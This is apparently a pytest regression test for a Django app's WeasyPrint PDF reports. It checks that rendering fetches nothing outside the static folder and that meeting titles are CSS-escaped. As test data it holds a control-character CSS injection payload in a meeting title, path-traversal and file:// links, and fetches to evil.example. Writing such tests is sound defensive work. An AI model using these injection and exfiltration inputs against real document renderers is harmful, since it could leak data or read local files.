"""A PDF is made from what users typed, so what it may fetch is fixed: the fonts and the
stylesheet under static/, and data: URLs. A form feed in a meeting's title broke out of the
running head's CSS string, and WeasyPrint fetched the URL the rest of the title named."""

import re
import urllib.request

import pytest
from django.template import Context, Template

from apps.meetings import selectors
from apps.meetings.models import Meeting
from apps.reports import minutes_document, pdf
from tests.factories import ConsortiumFactory, user_with_role
from tests.pdf_reading import embedded_fonts, text_of

ONE_PIXEL = ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAA"
             "ABJRU5ErkJggg==")


@pytest.fixture
def fetched(monkeypatch):
    """Every URL WeasyPrint's own fetcher opened (urllib: http, https, ftp, file, data)."""
    opened = []
    original = urllib.request.OpenerDirector.open

    def watched(self, request, *args, **kwargs):
        opened.append(request.full_url if isinstance(request, urllib.request.Request) else request)
        return original(self, request, *args, **kwargs)

    monkeypatch.setattr(urllib.request.OpenerDirector, "open", watched)
    return opened


def outside(urls: list[str]) -> list[str]:
    return [url for url in urls if not url.startswith(("data:", pdf.STATIC_DIR.as_uri() + "/"))]


def test_a_pdf_fetches_nothing_outside_the_static_folder(fetched, tmp_path):
    secret = tmp_path / "secret.css"
    secret.write_text("body { color: red }")
    html = f"""<html><head>
      <link rel="stylesheet" href="http://127.0.0.1:9/x.css"><link rel="stylesheet" href="{secret.as_uri()}">
      <link rel="stylesheet" href="../../../../../../../../{secret}">
      <style>@font-face {{ font-family: X; src: url("https://evil.example/font.ttf") }}</style></head>
      <body><img src="https://evil.example/?d=1"><img src="ftp://evil.example/x"><img src="{ONE_PIXEL}">本文</body></html>"""
    content = pdf.html_to_pdf(html)
    assert "本文" in text_of(content)
    assert outside(fetched) == []


def test_the_reports_still_have_their_fonts_and_stylesheet(fetched):
    content = pdf.report_to_pdf(Template('{% extends "reports/pdf/base.html" %}{% block body %}本文{% endblock %}')
                                .render(Context({"made_on": "令和8年1月1日"})))
    fonts = embedded_fonts(content)
    assert fonts and all(re.match(r"/[A-Z]{6}\+BIZ-UDGothic", name) for name in fonts), fonts
    assert outside(fetched) == []


@pytest.mark.django_db
@pytest.mark.parametrize("control", ["\f", "\n", "\r", "\r\n", "\x0b", "\x1b", "\x7f"])
def test_a_title_with_a_control_character_stays_in_the_running_head_and_fetches_nothing(fetched, control):
    """A title stored before single-line fields refused control characters still prints."""
    consortium = ConsortiumFactory(slug="saitama")
    meeting = Meeting.objects.create(consortium=consortium, title="第1回", starts_at="2026-11-17T10:00+09:00")
    title = f"第1回{control}}}@top-right{{content:url(https://evil.example/leak)}}"
    Meeting.objects.filter(pk=meeting.pk).update(title=title)
    meeting = selectors.meeting_detail(user=user_with_role("secretariat", consortium=consortium)).get(pk=meeting.pk)

    content = minutes_document.minutes_pdf(meeting=meeting).content

    assert content.startswith(b"%PDF") and outside(fetched) == []
    if control in ("\n", "\r", "\r\n"):  # white space in the running head; the others print as no glyph
        assert "第1回 }@top-right{content:url(https://evil.example/leak)}" in text_of(content)


@pytest.mark.parametrize("text, escaped", [
    ('R&D "共同" <協定> \\ 書', 'R&D \\"共同\\" \\3c 協定> \\\\ 書'),
    ("第1回\f}@top-right{content:url(x)}", "第1回\\c }@top-right{content:url(x)}"),
    ("a\r\nb\x0bc\x00d\x1be\x7ff\x85g", "a\\d \\a b\\b c\\0 d\\1b e\\7f f\\85 g"),
])
def test_the_running_heads_css_string_escapes_every_control_character(text, escaped):
    from apps.core.templatetags.consortium_format import css_string

    assert css_string(text) == escaped
